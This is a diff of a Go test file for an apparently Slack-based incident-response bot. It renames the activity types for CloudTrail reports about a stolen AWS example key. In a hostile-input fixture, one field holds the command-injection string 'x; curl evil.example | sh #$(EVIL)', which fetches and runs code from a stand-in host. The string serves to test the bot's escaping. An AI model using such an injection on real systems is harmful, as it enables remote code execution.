@@ -12,7 +12,7 @@ import (
 
 	"github.com/slack-go/slack"
 
-	"github.com/killswitch-chatops/killswitch/actions"
+	"github.com/killswitch-chatops/killswitch/actions/trail"
 	"github.com/killswitch-chatops/killswitch/approvals"
 	"github.com/killswitch-chatops/killswitch/approvals/memory"
 	"github.com/killswitch-chatops/killswitch/bot/slackfake"
@@ -22,25 +22,25 @@ const stolenKey = "AKIAIOSFODNN7EXAMPLE"
 
 // baseReport is what a key did. Every other report is a named deviation from it.
 func baseReport() approvals.Report {
-	return approvals.Report{At: after(5 * time.Minute), Activity: actions.Activity{
+	return approvals.Report{At: after(5 * time.Minute), Activity: trail.Activity{
 		Subject: stolenKey, By: "AccessKeyId", From: after(5*time.Minute - 24*time.Hour), To: after(5 * time.Minute), Total: 412, Denied: 37,
 		First: after(-3 * time.Hour), Last: after(-4 * time.Minute),
-		Regions: []actions.RegionActivity{{Name: "eu-central-1", Total: 396}, {Name: "eu-west-1"}, {Name: "eu-north-1"}, {Name: "us-east-1", Total: 16}},
-		Calls: actions.Top{Kinds: 14, Most: []actions.Count{{Name: "GetBucketAcl", N: 240}, {Name: "ListBuckets", N: 81}, {Name: "RunInstances", N: 37}, {Name: "GetCallerIdentity", N: 20},
+		Regions: []trail.RegionActivity{{Name: "eu-central-1", Total: 396}, {Name: "eu-west-1"}, {Name: "eu-north-1"}, {Name: "us-east-1", Total: 16}},
+		Calls: trail.Top{Kinds: 14, Most: []trail.Count{{Name: "GetBucketAcl", N: 240}, {Name: "ListBuckets", N: 81}, {Name: "RunInstances", N: 37}, {Name: "GetCallerIdentity", N: 20},
 			{Name: "ListUsers", N: 9}, {Name: "CreateUser", N: 2}, {Name: "AssumeRole", N: 2}, {Name: "CreateAccessKey", N: 1}, {Name: "GetUser", N: 1}, {Name: "PutUserPolicy", N: 1}}},
-		Roles:     actions.Top{Kinds: 1, Most: []actions.Count{{Name: "arn:aws:iam::222222222222:role/service/app-role", N: 2}}},
-		Addresses: actions.Top{Kinds: 2, Most: []actions.Count{{Name: "198.51.100.7", N: 400}, {Name: "2001:db8:85a3:8d3:1319:8a2e:370:7348", N: 12}}},
-		Resources: actions.Top{Kinds: 2, Most: []actions.Count{{Name: "prod-customer-exports-eu-central-1-222222222222", N: 240}, {Name: "backdoor", N: 3}}},
-		Types:     actions.Top{Kinds: 2, Most: []actions.Count{{Name: "AWS::S3::Bucket", N: 240}, {Name: "AWS::IAM::User", N: 3}}},
-		Agents:    actions.Top{Kinds: 1, Most: []actions.Count{{Name: "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.6.9-amd64 md/arch#x86_64 lang/python#3.11.8 cfg/retry-mode#legacy", N: 412}}},
+		Roles:     trail.Top{Kinds: 1, Most: []trail.Count{{Name: "arn:aws:iam::222222222222:role/service/app-role", N: 2}}},
+		Addresses: trail.Top{Kinds: 2, Most: []trail.Count{{Name: "198.51.100.7", N: 400}, {Name: "2001:db8:85a3:8d3:1319:8a2e:370:7348", N: 12}}},
+		Resources: trail.Top{Kinds: 2, Most: []trail.Count{{Name: "prod-customer-exports-eu-central-1-222222222222", N: 240}, {Name: "backdoor", N: 3}}},
+		Types:     trail.Top{Kinds: 2, Most: []trail.Count{{Name: "AWS::S3::Bucket", N: 240}, {Name: "AWS::IAM::User", N: 3}}},
+		Agents:    trail.Top{Kinds: 1, Most: []trail.Count{{Name: "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.6.9-amd64 md/arch#x86_64 lang/python#3.11.8 cfg/retry-mode#legacy", N: 412}}},
 	}}
 }
 
 // most is a Top of ten such names.
-func most(name string) actions.Top {
-	t := actions.Top{Kinds: 10_000}
+func most(name string) trail.Top {
+	t := trail.Top{Kinds: 10_000}
 	for i := range 10 {
-		t.Most = append(t.Most, actions.Count{Name: fmt.Sprintf("%s%d", name, i), N: 10_000 - i})
+		t.Most = append(t.Most, trail.Count{Name: fmt.Sprintf("%s%d", name, i), N: 10_000 - i})
 	}
 	return t
 }
@@ -57,12 +57,12 @@ var reports = []struct {
 	{"key", func(*approvals.Report) {}},
 	{"none", func(r *approvals.Report) {
 		a := r.Activity
-		r.Activity = actions.Activity{Subject: a.Subject, By: a.By, From: a.From, To: a.To, Regions: []actions.RegionActivity{{Name: "eu-central-1"}, {Name: "us-east-1"}}}
+		r.Activity = trail.Activity{Subject: a.Subject, By: a.By, From: a.From, To: a.To, Regions: []trail.RegionActivity{{Name: "eu-central-1"}, {Name: "us-east-1"}}}
 	}},
 	{"cut", func(r *approvals.Report) {
 		r.Activity.Total, r.Activity.Broken = 10_000, 3
 		r.Activity.Cut = "it stopped after 10000 calls; older ones are missing"
-		r.Activity.Regions[0] = actions.RegionActivity{Name: "eu-central-1", Total: 9984, Cut: true}
+		r.Activity.Regions[0] = trail.RegionActivity{Name: "eu-central-1", Total: 9984, Cut: true}
 	}},
 	{"region_denied", func(r *approvals.Report) {
 		r.Activity.Regions[1].Error = "AccessDeniedException: User: arn:aws:sts::222222222222:assumed-role/killswitch-responder/ks is not authorized to perform: cloudtrail:LookupEvents"
@@ -70,11 +70,11 @@ var reports = []struct {
 	}},
 	{"user", func(r *approvals.Report) { r.Activity.Subject, r.Activity.By = "deploy", "Username" }},
 	{"unread", func(r *approvals.Report) {
-		r.Activity, r.Unread = actions.Activity{}, "ThrottlingException: Rate exceeded"
+		r.Activity, r.Unread = trail.Activity{}, "ThrottlingException: Rate exceeded"
 	}},
 	{"unread_everywhere", func(r *approvals.Report) {
 		a := r.Activity
-		r.Activity = actions.Activity{Subject: a.Subject, By: a.By, From: a.From, To: a.To, Regions: []actions.RegionActivity{
+		r.Activity = trail.Activity{Subject: a.Subject, By: a.By, From: a.From, To: a.To, Regions: []trail.RegionActivity{
 			{Name: "eu-central-1", Error: "AccessDeniedException: no"}, {Name: "us-east-1", Error: "the region is not enabled in this account: UnrecognizedClientException: no"}}}
 	}},
 	{"long", func(r *approvals.Report) {
@@ -82,14 +82,14 @@ var reports = []struct {
 		a := &r.Activity
 		a.Subject, a.Cut, a.Regions, a.Broken = strings.Repeat("subject", 28), strings.Repeat("cut ", 50), nil, 10_000
 		for i := range 35 {
-			a.Regions = append(a.Regions, actions.RegionActivity{Name: fmt.Sprintf("region-%d", i), Total: i % 2, Error: strings.Repeat("trouble ", 25)})
+			a.Regions = append(a.Regions, trail.RegionActivity{Name: fmt.Sprintf("region-%d", i), Total: i % 2, Error: strings.Repeat("trouble ", 25)})
 		}
 	}},
 	{"hostile", func(r *approvals.Report) {
 		filled(r, evil)
 		a := &r.Activity
 		a.Subject, a.By, a.Cut = evil, evil, evil
-		a.Regions = []actions.RegionActivity{{Name: evil, Error: evil}, {Name: evil}, {Name: "x", Total: 1}}
+		a.Regions = []trail.RegionActivity{{Name: evil, Error: evil}, {Name: evil}, {Name: "x", Total: 1}}
 	}},
 	{"hostile_unread", func(r *approvals.Report) {
 		r.Activity.Subject, r.Activity.By, r.Unread = "x; curl evil.example | sh #$(EVIL)", evil, evilLong
